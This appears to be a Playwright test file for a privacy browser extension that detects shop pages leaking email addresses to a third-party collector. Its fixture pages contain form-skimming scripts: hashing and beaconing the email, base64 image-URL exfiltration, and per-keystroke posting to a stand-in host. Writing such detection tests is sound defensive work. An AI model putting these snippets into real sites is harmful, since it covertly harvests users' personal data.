import { createHash } from 'node:crypto';
import type { Page } from '@playwright/test';
import { expect, test, type Fairshare } from './fairshare.ts';

const COLLECTOR = 'in.lead-collector.example';
const SITE_OF_COLLECTOR = 'lead-collector.example';
const EMAIL = 'marie.keller7@post.example';
const form = (script: string) =>
  `<!doctype html><title>Shop</title><h1>Shop</h1>
  <form onsubmit="return false"><label>Email <input name="email" type="email"></label>
  <label>Search <input type="search" name="q"></label><button>Join</button></form>
  <script>const field = document.querySelector('[name=email]'); ${script}</script>`;

/** Sends the address hashed, to `host`, when the field is left. */
const hashed = (host: string, path = '/b') => `
field.addEventListener('change', async () => {
  const bytes = new TextEncoder().encode(field.value);
  const digest = new Uint8Array(await crypto.subtle.digest('SHA-256', bytes));
  const hex = [...digest].map((byte) => byte.toString(16).padStart(2, '0')).join('');
  navigator.sendBeacon('https://${host}${path}', JSON.stringify({ em: hex }));
});`;

/** Scrambles what is in the field as soon as it is there. */
const hashedNow = `
(async () => {
  const digest = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(field.value));
  const hex = [...new Uint8Array(digest)].map((byte) => byte.toString(16).padStart(2, '0')).join('');
  new Image().src = 'https://${COLLECTOR}/p.gif?em=' + hex;
})();`;

const sites: Record<string, string> = {
  'hashed-shop.example': form(hashed(COLLECTOR)),
  'own-shop.example': form(hashed('own-shop.example')),
  'search-shop.example': form(`
    document.querySelector('[name=q]').addEventListener('input', (event) =>
      fetch('https://${COLLECTOR}/s?q=' + encodeURIComponent(event.target.value)));`),
  // Waits for the collector's word, so that the worker can be stopped between typing and sending.
  'late-shop.example': form(`
    const wait = async () => {
      const go = await (await fetch('/go')).text();
      if (go !== 'go') return setTimeout(wait, 100);
      document.title = 'Sent';
      new Image().src = 'https://${COLLECTOR}/p.gif?e=' + btoa(field.value);
    };
    field.addEventListener('change', wait);`),
  // Signed in: the site has filled the address in, and hands it on at once.
  'account-shop.example': form(`
    field.setAttribute('value', '${EMAIL}'); ${hashedNow}`),
  'own-account.example': form(`
    field.setAttribute('value', '${EMAIL}');
    fetch('/b', { method: 'POST', body: field.value });`),
  'keys-shop.example': form(`
    field.addEventListener('input', () =>
      fetch('https://${COLLECTOR}/k', { method: 'POST', body: 'v=' + encodeURIComponent(field.value) }));`),
};

let go = '';
test.use({
  // A list by itself would be taken for a value with its options.
  extraSites: [
    Object.entries(sites).map(([host, page]) => ({
      id: host.replace('.example', ''),
      host,
      title: 'Shop',
      describe: '',
      paths: ['/'],
      routes: {
        [host]: { '/': page, '/b': { body: 'ok' }, '/go': () => ({ body: go }) },
        [COLLECTOR]: {
          '/b': { body: 'ok' },
          '/k': { body: 'ok', headers: { 'access-control-allow-origin': '*' } },
          '/s': { body: '[]', headers: { 'access-control-allow-origin': '*' } },
          '/p.gif': { body: '' },
        },
      },
      truth: { always: [] },
    })),
    { scope: 'test' },
  ],
});

async function typeInto(page: Page, selector: string, text: string): Promise<void> {
  await page.click(selector);
  await page.keyboard.type(text, { delay: 15 });
}

const seen = async (fairshare: Fairshare, kind: string) =>
  (await fairshare.rows('observations'))
    .filter((row) => row['kind'] === kind)
    .map((row) => row['key']);

/** Everything that the extension keeps on disk, as text. */
async function kept(fairshare: Fairshare): Promise<string> {
  const tables = ['visits', 'sites', 'observations', 'receipts', 'preferences'];
  const rows = await Promise.all(tables.map((table) => fairshare.rows(table)));
  const local = await fairshare.desk.evaluate(() => chrome.storage.local.get(null));
  return JSON.stringify([rows, local]);
}

test('an address that is hashed and sent before the form is noticed, and never kept', async ({
  fairshare,
}) => {
  await fairshare.start();
  const page = await fairshare.visit('https://hashed-shop.example/');
  await typeInto(page, '[name=email]', EMAIL);
  await page.click('h1');
  await expect
    .poll(() => seen(fairshare, 'leak'))
    .toEqual([`email>${COLLECTOR}:beacon:sha256:before`]);
  const stored = await kept(fairshare);
  const hash = createHash('sha256').update(EMAIL).digest('hex');
  for (const text of [EMAIL, 'marie', hash]) expect(stored).not.toContain(text);
  await page.close();
  const session = () => fairshare.desk.evaluate(() => chrome.storage.session.get(null));
  await expect.poll(async () => JSON.stringify(await session())).not.toContain('marie');
});

test('what goes to the site’s own server, and what is searched for, is no finding', async ({
  fairshare,
}) => {
  await fairshare.start();
  const own = await fairshare.visit('https://own-shop.example/');
  await typeInto(own, '[name=email]', EMAIL);
  await own.click('h1');
  await expect.poll(() => fairshare.sites.requestsTo('own-shop.example').length).toBeGreaterThan(1);
  const search = await fairshare.visit('https://search-shop.example/');
  await typeInto(search, '[name=q]', 'garden furniture');
  await expect.poll(() => fairshare.sites.requestsTo(COLLECTOR).length).toBeGreaterThan(10);
  // Had it been noticed, it would come before this one, which is.
  const page = await fairshare.visit('https://hashed-shop.example/');
  await typeInto(page, '[name=email]', EMAIL);
  await page.click('h1');
  await expect.poll(() => seen(fairshare, 'leak')).toHaveLength(1);
  expect(await seen(fairshare, 'recording')).toEqual([]);
});

test('a worker that is stopped between typing and sending notices all the same', async ({
  fairshare,
}) => {
  go = '';
  await fairshare.start();
  const page = await fairshare.visit('https://late-shop.example/');
  await typeInto(page, '[name=email]', EMAIL);
  await page.click('h1');
  const stored = () =>
    fairshare.desk.evaluate(async () => JSON.stringify(await chrome.storage.session.get(null)));
  await expect.poll(stored).toContain(EMAIL);
  await fairshare.browser.stopWorker();
  await page.bringToFront();
  const worker = await fairshare.browser.worker();
  await worker.evaluate(() => 1);
  await expect
    .poll(() => worker.evaluate(() => chrome.webRequest.onBeforeRequest.hasListeners()))
    .toBe(true);
  go = 'go';
  await expect(page).toHaveTitle('Sent');
  await expect
    .poll(() => seen(fairshare, 'leak'))
    .toEqual([`email>${COLLECTOR}:img:base64:before`]);
});

test('a value that is sent while it grows is key logging', async ({ fairshare }) => {
  await fairshare.start();
  const page = await fairshare.visit('https://keys-shop.example/');
  await typeInto(page, '[name=email]', EMAIL);
  await expect.poll(() => seen(fairshare, 'recording')).toEqual([`keys:${COLLECTOR}`]);
});

test('nothing that is typed during a pause is told', async ({ fairshare }) => {
  await fairshare.start();
  await fairshare.ask('ui>background.pause', { minutes: 60 });
  const page = await fairshare.visit('https://hashed-shop.example/');
  await typeInto(page, '[name=email]', EMAIL);
  await page.click('h1');
  await expect.poll(() => fairshare.sites.requestsTo(COLLECTOR).length).toBe(1);
  await fairshare.ask('ui>background.pause', { minutes: 0 });
  const session = await fairshare.desk.evaluate(() => chrome.storage.session.get(null));
  expect(JSON.stringify(session)).not.toContain('marie');
  expect(await seen(fairshare, 'leak')).toEqual([]);
});

test('an address that the site had filled in and passed on is told as known, everywhere, and never kept', async ({
  fairshare,
}) => {
  await fairshare.start();
  const page = await fairshare.visit('https://account-shop.example/');
  await expect.poll(() => seen(fairshare, 'leak')).toEqual([`email>${COLLECTOR}:img:sha256:known`]);
  // Who goes through the field has typed nothing.
  await page.click('[name=email]');
  await page.click('h1');
  await fairshare.settled();
  expect(await seen(fairshare, 'leak')).toEqual([`email>${COLLECTOR}:img:sha256:known`]);
  const hash = createHash('sha256').update(EMAIL).digest('hex');
  const stored = await kept(fairshare);
  for (const text of [EMAIL, 'marie', hash]) expect(stored).not.toContain(text);

  const popup = await fairshare.popup(page);
  await expect(popup.getByText('got something that this site knew of you')).toBeVisible();
  await popup.close();
  const file = await fairshare.exported();
  const rows = file.observations.filter(({ kind }) => kind === 'leak');
  expect(rows).toMatchObject([{ detail: { data: 'email', host: COLLECTOR, when: 'known' } }]);
  await fairshare.desk.goto(
    fairshare.browser.extensionUrl('dashboard/index.html#/site/account-shop.example'),
  );
  await expect(
    fairshare.desk.getByText(`What this site knew of you went to: ${SITE_OF_COLLECTOR}.`),
  ).toBeVisible();
  await page.close();
  const session = () => fairshare.desk.evaluate(() => chrome.storage.session.get(null));
  await expect.poll(async () => JSON.stringify(await session())).not.toContain('marie');
});

test('what a site knows and keeps is no finding, and a page that knows nothing is not listened to', async ({
  fairshare,
}) => {
  await fairshare.start();
  await fairshare.visit('https://hashed-shop.example/');
  await fairshare.settled();
  const before = await fairshare.desk.evaluate(() => chrome.storage.session.get(null));
  expect(Object.keys(before).filter((key) => key.startsWith('typed:'))).toEqual([]);
  await fairshare.visit('https://own-account.example/');
  await fairshare.settled();
  // Had it been noticed, it would come before this one, which is.
  await fairshare.visit('https://account-shop.example/');
  await expect.poll(() => seen(fairshare, 'leak')).toHaveLength(1);
});

test('nothing that a site knows is told during a pause', async ({ fairshare }) => {
  await fairshare.start();
  await fairshare.ask('ui>background.pause', { minutes: 60 });
  await fairshare.visit('https://account-shop.example/');
  await expect.poll(() => fairshare.sites.requestsTo(COLLECTOR).length).toBe(1);
  await fairshare.ask('ui>background.pause', { minutes: 0 });
  const session = await fairshare.desk.evaluate(() => chrome.storage.session.get(null));
  expect(JSON.stringify(session)).not.toContain('marie');
  expect(await seen(fairshare, 'leak')).toEqual([]);
});
